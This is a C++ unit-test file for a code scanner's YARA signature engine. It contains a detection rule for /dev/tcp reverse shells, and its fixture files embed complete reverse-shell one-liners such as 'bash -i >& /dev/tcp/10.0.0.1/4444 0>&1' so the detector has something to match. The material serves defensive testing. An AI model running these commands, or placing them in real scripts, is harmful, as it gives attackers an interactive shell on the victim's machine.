// YARA signatures in the engine: compiling .yar files (errors with file and line), scanning
// whole files on the workers, findings with the rule's metadata at the earliest string match.
#include <gtest/gtest.h>

#include <algorithm>
#include <thread>

#include "compiled_rules.hpp"
#include "signatures.hpp"
#include "temp_tree.hpp"
#include "warden/warden.hpp"

namespace warden {
namespace {

using detail::SignatureMatch;
using detail::SignatureScanner;
using detail::SignatureSet;
using testing::TempTree;

constexpr const char* kReverseShell = R"(
rule bash_dev_tcp : shell network {
  meta:
    title = "Reverse shell through /dev/tcp"
    description = "An interactive shell redirected to a TCP socket."
    severity = "critical"
    confidence = "high"
    cwe = "CWE-78, 506"
    reference = "https://example.com/reverse-shells"
  strings:
    $shell = "bash -i"
    $tcp = "/dev/tcp/"
  condition:
    all of them
}

private rule has_zzz { strings: $z = "zzz" condition: $z }

rule uses_private { condition: has_zzz }

rule plain { strings: $p = "plain-marker" condition: $p }
)";

std::shared_ptr<const SignatureSet> compile_one(const std::string& path, const std::string& text,
                                                std::vector<RuleFileError>& errors) {
  return SignatureSet::compile({{path, text}}, errors);
}

TEST(SignatureSet, ReadsNamesNamespaceTagsAndMetadata) {
  std::vector<RuleFileError> errors;
  const auto set = compile_one("packs/shells.yar", kReverseShell, errors);
  ASSERT_TRUE(set) << format_rule_errors(errors);
  ASSERT_EQ(set->rules().size(), 4u);
  const auto& rule = set->rules()[0];
  EXPECT_EQ(rule.ns, "shells");
  EXPECT_EQ(rule.name, "bash_dev_tcp");
  EXPECT_FALSE(rule.is_private);
  EXPECT_EQ(rule.info.id, "yara.shells.bash_dev_tcp");
  EXPECT_EQ(rule.info.title, "Reverse shell through /dev/tcp");
  EXPECT_EQ(rule.info.description, "An interactive shell redirected to a TCP socket.");
  EXPECT_EQ(rule.info.severity, Severity::critical);
  EXPECT_EQ(rule.info.confidence, Confidence::high);
  EXPECT_EQ(rule.info.cwes, (std::vector<int>{78, 506}));
  EXPECT_EQ(rule.info.tags, (std::vector<std::string>{"shell", "network"}));
  EXPECT_EQ(rule.info.references, (std::vector<std::string>{"https://example.com/reverse-shells"}));
  EXPECT_EQ(rule.info.xrefs.at("yara"), "shells:bash_dev_tcp");
  EXPECT_TRUE(set->rules()[1].is_private);
  // Documented defaults: medium/medium, the rule name as title.
  const auto& plain = set->rules()[3];
  EXPECT_EQ(plain.info.severity, Severity::medium);
  EXPECT_EQ(plain.info.confidence, Confidence::medium);
  EXPECT_EQ(plain.info.title, "YARA rule plain");
  EXPECT_TRUE(plain.info.cwes.empty());
}

TEST(SignatureSet, CompileErrorsCarryFileAndLineForEveryBrokenFile) {
  std::vector<RuleFileError> errors;
  const auto set = SignatureSet::compile({{"a.yar", "rule ok { condition: true }\n"},
                                          {"b.yar", "rule b {\n  strings: $x = \"x\"\n  condition: $y\n}\n"},
                                          {"c.yar", "rule c {\n  condition: true and\n}\n"}},
                                         errors);
  EXPECT_FALSE(set);
  ASSERT_EQ(errors.size(), 2u) << format_rule_errors(errors);
  EXPECT_EQ(errors[0].file, "b.yar");
  EXPECT_EQ(errors[0].position.line, 4u);  // libyara reports an undefined string where the condition ends
  EXPECT_NE(errors[0].message.find("$y"), std::string::npos) << errors[0].message;
  EXPECT_EQ(errors[1].file, "c.yar");
  EXPECT_EQ(errors[1].position.line, 3u);
  // clang's form without a column (libyara gives none): no caret.
  EXPECT_EQ(format_rule_errors({errors[1]}), "c.yar:3: error: " + errors[1].message + "\n}\n");
}

TEST(SignatureSet, BadMetadataIsAnErrorAtTheRule) {
  std::vector<RuleFileError> errors;
  const auto set = compile_one("m.yar", "rule a { condition: true }\n\nrule  b {\n  meta:\n    severity = \"severe\"\n    cwe = \"many\"\n  condition: true\n}\n",
                               errors);
  EXPECT_FALSE(set);
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(errors[0].position.line, 3u);
  EXPECT_EQ(errors[0].message, "rule 'b': severity must be low, medium, high or critical, not 'severe'");
  EXPECT_EQ(errors[0].source_line, "rule  b {");
  EXPECT_NE(errors[1].message.find("cwe"), std::string::npos);
}

TEST(SignatureScanner, ReportsMatchesWithOffsetsAndHidesPrivateRules) {
  std::vector<RuleFileError> errors;
  const auto set = compile_one("shells.yar", kReverseShell, errors);
  ASSERT_TRUE(set);
  SignatureScanner scanner(set, 5);
  std::vector<SignatureMatch> matches;
  std::string error;
  const std::string bytes = "zzz\nexec /dev/tcp/1.2.3.4/80; bash -i\n";
  ASSERT_EQ(scanner.scan(bytes, matches, error), SignatureScanner::Status::ok) << error;
  ASSERT_EQ(matches.size(), 2u);  // bash_dev_tcp and uses_private; has_zzz is private
  EXPECT_EQ(set->rules()[matches[0].rule].name, "bash_dev_tcp");
  ASSERT_EQ(matches[0].strings.size(), 2u);
  EXPECT_EQ(matches[0].strings[0].identifier, "$tcp");  // by offset
  EXPECT_EQ(matches[0].strings[0].offset, bytes.find("/dev/tcp/"));
  EXPECT_EQ(matches[0].strings[0].length, 9u);
  EXPECT_EQ(matches[0].strings[1].identifier, "$shell");
  EXPECT_EQ(set->rules()[matches[1].rule].name, "uses_private");
  EXPECT_TRUE(matches[1].strings.empty());
  // The scanner is reusable: nothing from the last scan leaks into the next.
  matches.clear();
  ASSERT_EQ(scanner.scan("nothing here", matches, error), SignatureScanner::Status::ok);
  EXPECT_TRUE(matches.empty());
}

TEST(SignatureScanner, ATimeoutIsReported) {
  std::vector<RuleFileError> errors;
  // Quadratic in the file size: far beyond one second on 64 KiB.
  const auto set = compile_one("slow.yar",
                               "rule slow { condition: for all i in (0..filesize) : "
                               "(for all j in (0..filesize) : (uint8(j) != 0x7f)) }\n",
                               errors);
  ASSERT_TRUE(set) << format_rule_errors(errors);
  SignatureScanner scanner(set, 1);
  std::vector<SignatureMatch> matches;
  std::string error;
  EXPECT_EQ(scanner.scan(std::string(64 * 1024, 'a'), matches, error), SignatureScanner::Status::timeout);
  EXPECT_EQ(error, "signature scan timed out");
}

TEST(SignatureScanner, ManyThreadsShareOneSet) {
  std::vector<RuleFileError> errors;
  const auto set = compile_one("shells.yar", kReverseShell, errors);
  ASSERT_TRUE(set);
  // More threads than libyara's limit (32): the extra ones wait for a slot.
  std::vector<std::size_t> found(40, 0);
  {
    std::vector<std::jthread> threads;
    for (std::size_t t = 0; t < found.size(); ++t) {
      threads.emplace_back([&, t] {
        SignatureScanner scanner(set, 5);
        for (int i = 0; i < 50; ++i) {
          std::vector<SignatureMatch> matches;
          std::string error;
          scanner.scan("bash -i >& /dev/tcp/10.0.0.1/9 plain-marker", matches, error);
          found[t] += matches.size();
        }
      });
    }
  }
  for (const std::size_t n : found) EXPECT_EQ(n, 100u);
}

// --- through the scanner ---

TEST(SignatureChecks, ScanEveryFileAndReportAtTheEarliestStringMatch) {
  const TempTree tree({{"rules/shells.yar", kReverseShell},
                       {"repo/setup.sh", "#!/bin/sh\necho start\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"},
                       {"repo/model.py", "import os\n\ndef f():\n    os.system(\"\u00e9\u00e9 bash -i >& /dev/tcp/h/1\")\n"},
                       {"repo/notes.txt", "nothing to see\n"}});
  const auto rules = RuleSet::load({tree.root() / "rules"});
  ASSERT_NE(rules.find("yara.shells.bash_dev_tcp"), nullptr);
  EXPECT_EQ(rules.find("yara.shells.has_zzz"), nullptr);  // private: not a check
  const auto result = Scanner(rules).scan({tree.root() / "repo"});
  ASSERT_EQ(result.findings.size(), 2u);
  EXPECT_TRUE(result.skipped.empty());
  EXPECT_EQ(result.analysed.size(), 3u);
  const Finding& py = result.findings[0];
  EXPECT_EQ(py.rule_id, "yara.shells.bash_dev_tcp");
  EXPECT_TRUE(py.file.ends_with("repo/model.py"));
  EXPECT_EQ(py.range.start, (Position{4, 19}));  // code points: the two é are one column each
  EXPECT_EQ(py.range.end, (Position{4, 26}));
  EXPECT_EQ(py.message, "Reverse shell through /dev/tcp: $shell matched \"bash -i\"");
  EXPECT_EQ(py.severity, Severity::critical);
  EXPECT_EQ(py.cwes, (std::vector<int>{78, 506}));
  ASSERT_EQ(py.trace.size(), 1u);
  EXPECT_EQ(py.trace[0].message, "$tcp matched \"/dev/tcp/\"");
  EXPECT_EQ(py.trace[0].range.start, (Position{4, 30}));
  const Finding& sh = result.findings[1];
  EXPECT_TRUE(sh.file.ends_with("repo/setup.sh"));
  EXPECT_EQ(sh.range.start, (Position{3, 1}));
  EXPECT_EQ(sh.snippet, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
}

TEST(SignatureChecks, BinaryAndInvalidBytesAreScannedAsTheyAre) {
  using namespace std::string_literals;
  const std::string blob = "\x7f" "ELF\x01\x00\xff\xfe" "bash -i\n\x00\x00/dev/tcp/"s;
  const std::string python_binary = std::string(64, '\0') + "plain-marker";
  const TempTree tree({{"rules/shells.yar", kReverseShell}, {"repo/miner.bin", blob}, {"repo/weights.py", python_binary}});
  const auto result = Scanner(RuleSet::load({tree.root() / "rules"})).scan({tree.root() / "repo"});
  ASSERT_EQ(result.findings.size(), 2u);
  EXPECT_TRUE(result.findings[0].file.ends_with("miner.bin"));
  // A binary file's finding is at a byte offset, its snippet the bytes there escaped.
  ASSERT_TRUE(result.findings[0].bytes.has_value());
  EXPECT_EQ(*result.findings[0].bytes, (ByteLocation{"", 8}));
  EXPECT_EQ(result.findings[0].range.start.line, 0u);
  EXPECT_EQ(result.findings[0].snippet, R"(bash -i\n\x00\x00/dev/tcp/)");
  ASSERT_EQ(result.findings[0].trace.size(), 1u);
  EXPECT_EQ(*result.findings[0].trace[0].bytes, (ByteLocation{"", 18}));
  // A Python-named file Python cannot run is not analysed as Python, but its signature
  // findings are kept, and the skip says so.
  EXPECT_TRUE(result.findings[1].file.ends_with("weights.py"));
  EXPECT_EQ(result.findings[1].rule_id, "yara.shells.plain");
  ASSERT_EQ(result.skipped.size(), 1u);
  EXPECT_EQ(result.skipped[0].reason, SkipReason::binary);
  EXPECT_NE(result.skipped[0].detail.find("scanned by signatures only"), std::string::npos);
}

TEST(SignatureChecks, WithoutAnEnabledSignatureCheckOtherFilesAreNotRead) {
  const TempTree tree({{"rules/shells.yar", kReverseShell},
                       {"rules/exec.rule",
                        "rule py-os-system {\n  title: \"t\"\n  message: \"m\"\n  severity: high\n  confidence: high\n"
                        "  match: call os.system\n}\n"},
                       {"repo/setup.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"},
                       {"repo/a.py", "import os\nos.system('bash -i >& /dev/tcp/x')\n"}});
  const auto rules = RuleSet::load({tree.root() / "rules"}).select("-yara.*");
  const auto result = Scanner(rules).scan({tree.root() / "repo"});
  ASSERT_EQ(result.findings.size(), 1u);
  EXPECT_EQ(result.findings[0].rule_id, "py-os-system");
  ASSERT_EQ(result.skipped.size(), 1u);
  EXPECT_EQ(result.skipped[0].reason, SkipReason::not_python);
}

TEST(SignatureChecks, FilesMetaLimitsACheckToFileNamesAndCarriesOtherToolsIds) {
  const std::string yar = R"(
rule python_only { meta: files = "*.py" bandit = "B613" strings: $m = "marker" condition: $m }
rule scripts { meta: files = "*.sh, *.pyw" strings: $m = "marker" condition: $m }
rule anywhere { strings: $m = "marker" condition: $m }
)";
  const TempTree tree({{"rules/limited.yar", yar}, {"repo/a.py", "x = 'marker'\n"}, {"repo/b.pyw", "marker\n"},
                       {"repo/notes.txt", "marker\n"}});
  const auto rules = RuleSet::load({tree.root() / "rules"});
  EXPECT_EQ(rules.find("yara.limited.python_only")->xrefs.at("bandit"), "B613");
  const auto result = Scanner(rules).scan({tree.root() / "repo"});
  std::vector<std::string> found;
  for (const Finding& f : result.findings) found.push_back(f.rule_id + " " + std::filesystem::path(f.file).filename().string());
  std::sort(found.begin(), found.end());
  EXPECT_EQ(found, (std::vector<std::string>{"yara.limited.anywhere a.py", "yara.limited.anywhere b.pyw",
                                             "yara.limited.anywhere notes.txt", "yara.limited.python_only a.py",
                                             "yara.limited.scripts b.pyw"}));
  // Selected by its Bandit id; limited to Python files, it does not make the scan list others.
  const auto python_only = Scanner(rules.select("-*,B613")).scan({tree.root() / "repo"});
  ASSERT_EQ(python_only.findings.size(), 1u);
  EXPECT_TRUE(python_only.findings[0].file.ends_with("a.py"));
  EXPECT_TRUE(std::none_of(python_only.analysed.begin(), python_only.analysed.end(),
                           [](const std::string& f) { return f.ends_with("notes.txt"); }));
  std::vector<RuleFileError> errors;
  EXPECT_FALSE(SignatureSet::compile({{"bad.yar", "rule r { meta: files = \" , \" condition: true }"}}, errors));
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_NE(errors[0].message.find("files must list file-name globs"), std::string::npos);
}

TEST(SignatureChecks, FilesOverTheSizeLimitAreSkippedWithTheLimit) {
  const TempTree tree({{"rules/shells.yar", kReverseShell}, {"repo/weights.bin", std::string(2048, 'x') + "plain-marker"}});
  ScanOptions options;
  options.max_file_size = 1024;
  const auto result = Scanner(RuleSet::load({tree.root() / "rules"}), options).scan({tree.root() / "repo"});
  EXPECT_TRUE(result.findings.empty());
  ASSERT_EQ(result.skipped.size(), 1u);
  EXPECT_EQ(result.skipped[0].reason, SkipReason::too_large);
  EXPECT_NE(result.skipped[0].detail.find("1024"), std::string::npos) << result.skipped[0].detail;
}

}  // namespace
}  // namespace warden

namespace warden {
namespace {

TEST(SignatureChecks, SignaturesAloneDoNotParsePython) {
  // Only signature checks: the code is not parsed (no syntax diagnostics), its bytes are scanned.
  const TempTree tree({{"rules/shells.yar", kReverseShell}, {"repo/broken.py", "def f(:\n    x = 'plain-marker'\n"}});
  const auto result = Scanner(RuleSet::load({tree.root() / "rules"})).scan({tree.root() / "repo"});
  ASSERT_EQ(result.findings.size(), 1u);
  EXPECT_EQ(result.findings[0].range.start, (Position{2, 10}));
  EXPECT_TRUE(result.diagnostics.empty());
  EXPECT_EQ(result.stats.lines, 2u);
}

}  // namespace
}  // namespace warden
